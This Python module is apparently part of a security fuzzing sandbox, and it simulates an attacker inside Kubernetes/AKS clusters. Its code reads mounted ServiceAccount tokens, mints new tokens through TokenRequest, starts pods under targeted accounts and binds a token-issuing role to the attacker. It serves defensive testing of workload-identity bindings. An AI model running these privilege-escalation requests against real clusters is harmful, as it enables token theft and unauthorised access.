"""What an attacker does inside clusters: read tokens where his code runs, and whatever somebody's right there lets him.

With a right to request tokens he does, of every ServiceAccount that has to do with an identity that he is after, the
new names too; with one to create pods he starts one under each; with one to bind roles he gives himself the first.
"""

from collections.abc import Iterable
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

from fuzz.cluster_seeds import CLIENT_ID, MAKER, USE
from fuzz.loot import Deed, Foothold, Loot, Proof, Token, claims_of
from fuzz.tools import Tools
from fuzz.worlds import Json
from sandbox.attacks.attacker import AUDIENCE

_AGAIN = timedelta(minutes=10)
_BINDING_AUDIENCE = "api://AKSIdentityBinding"
_RBAC = "rbac.authorization.k8s.io"
Account = tuple[str, str, str]  # cluster, namespace, name


@dataclass
class ClusterMoves:
    """His moves, and which of them he has tried."""

    tools: Tools
    loot: Loot
    deeds: list[Deed]
    patient: bool = False  # until there is another identity than the first
    accounts: list[Account] = field(default_factory=list)
    _tried: dict[tuple[str, ...], datetime] = field(default_factory=dict)
    _started: int = 0

    async def turn(self, now: datetime, after: str) -> None:
        """Every move once, and again after a while."""
        await self._read_mounted()
        if self.patient and len(self.loot.clients) == 1:
            return
        for token in self.loot.different(now, "aks"):
            for where in self.accounts:
                await self._bind(token, where, now, after)
                await self._mint(token, where, now, after)
                await self._start(token, where, now, after)

    def look_again(self) -> None:
        """What was refused may be allowed now."""
        self._tried.clear()

    async def learn(self, clusters: Iterable[str]) -> None:
        """ServiceAccounts that name an identity that he is after: a name is no secret."""
        for cluster in clusters:
            found: Any = await self.tools.control(
                "GET", f"state/clusters/{cluster}/serviceaccounts"
            )
            for one in found:
                named = (one["metadata"].get("annotations") or {}).get(CLIENT_ID)
                where = cluster, one["metadata"]["namespace"], one["metadata"]["name"]
                if named in self.loot.clients and where not in self.accounts:
                    self.accounts.append(where)

    async def _read_mounted(self) -> None:
        running: dict[str, set[str]] = {}
        for one in self.loot.footholds:
            if one.cluster not in running:
                pods: Any = await self.tools.control("GET", f"state/clusters/{one.cluster}/pods")
                running[one.cluster] = {pod["metadata"]["uid"] for pod in pods if _runs(pod)}
        alive = {
            (one.cluster, one.namespace, one.account): one.by
            for one in self.loot.footholds
            if running[one.cluster] & one.pods
        }
        for where, by in alive.items():
            wish = {"namespace": where[1], "service_account": where[2]}
            try:
                found = await self.tools.control("POST", f"nodes/{where[0]}/steal-token", wish)
            except LookupError:
                continue
            self._keep(where, found["token"], by)

    async def _mint(self, token: Token, where: Account, now: datetime, after: str) -> None:
        body = {
            "apiVersion": "authentication.k8s.io/v1",
            "kind": "TokenRequest",
            "spec": {"audiences": [AUDIENCE], "expirationSeconds": 3600},
        }
        path = f"/api/v1/namespaces/{where[1]}/serviceaccounts/{where[2]}/token"
        made = await self._post("mint", token, where, path, body, now)
        if made is not None:
            self._keep(where, made["status"]["token"], token.user)
            self._did("mint", token, where, now, after)

    async def _start(self, token: Token, where: Account, now: datetime, after: str) -> None:
        name = f"mine-{self._started}"
        container = {"name": "main", "image": "contoso.azurecr.io/tools:1.0"}
        body = {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": name, "labels": {"app": name, USE: "true"}},
            "spec": {"serviceAccountName": where[2], "containers": [container]},
        }
        path = f"/api/v1/namespaces/{where[1]}/pods"
        made = await self._post("pod", token, where, path, body, now)
        if made is not None:
            self._started += 1
            uids = frozenset([str(made["metadata"]["uid"])])
            self.loot.footholds.append(Foothold(*where, uids, token.user))
            self._did("pod", token, where, now, after)

    async def _bind(self, token: Token, where: Account, now: datetime, after: str) -> None:
        """The right to request tokens, for himself."""
        body = {
            "apiVersion": f"{_RBAC}/v1",
            "kind": "RoleBinding",
            "metadata": {"name": "ci-tokens"},
            "roleRef": {"apiGroup": _RBAC, "kind": "ClusterRole", "name": MAKER},
            "subjects": [{"apiGroup": _RBAC, "kind": "User", "name": token.user}],
        }
        path = f"/apis/{_RBAC}/v1/namespaces/{where[1]}/rolebindings"
        if await self._post("bind", token, where, path, body, now) is not None:
            self._did("bind", token, where, now, after)

    async def _post(
        self, move: str, token: Token, where: Account, path: str, body: Json, now: datetime
    ) -> Json | None:
        """The answer, where he is allowed to. What was tried is tried again after a while."""
        key = move, token.holds, *where
        if (tried := self._tried.get(key)) is not None and now < tried + _AGAIN:
            return None
        self._tried[key] = now
        origin = self.tools.ground.endpoints[f"kube-{where[0]}"]
        answer = await self.tools.send("POST", f"{origin}{path}", token, json=body)
        if answer is None or not answer.is_success:
            return None
        made: Json = answer.json()
        return made

    def _did(self, move: str, token: Token, where: Account, now: datetime, after: str) -> None:
        what = "/".join(where)
        self.deeds.append(Deed(now, after, move, token.owner, what, token.name, token.user))

    def _keep(self, where: Account, value: str, by: str) -> None:
        """The first of each ServiceAccount, and the newest."""
        how = f"token of {'/'.join(where)}" + (f" by {by}" if by else "")
        bound = claims_of(value).get("aud") in (_BINDING_AUDIENCE, [_BINDING_AUDIENCE])
        kind, detail = ("bound", (where[0],)) if bound else ("account", ())
        first = Proof(how, kind, value, detail, by=by)  # type: ignore[arg-type]  # one of two kinds
        self.loot.proofs.setdefault(how, first)
        newest = Proof(f"{how}, newest", kind, value, detail, by=by)  # type: ignore[arg-type]
        self.loot.proofs[newest.how] = newest


def foothold(cluster: str, namespace: str, account: str, pods: list[Json]) -> Foothold:
    """Code in every pod of this ServiceAccount that runs now."""
    uids = [
        pod["metadata"]["uid"]
        for pod in pods
        if pod["metadata"]["namespace"] == namespace
        and pod["spec"].get("serviceAccountName") == account
    ]
    return Foothold(cluster, namespace, account, frozenset(uids))


def _runs(pod: Json) -> bool:
    """Whether its containers run and go on running."""
    ready = [
        one["status"]
        for one in (pod.get("status") or {}).get("conditions") or []
        if one["type"] == "Ready"
    ]
    return ready == ["True"] and not pod["metadata"].get("deletionTimestamp")
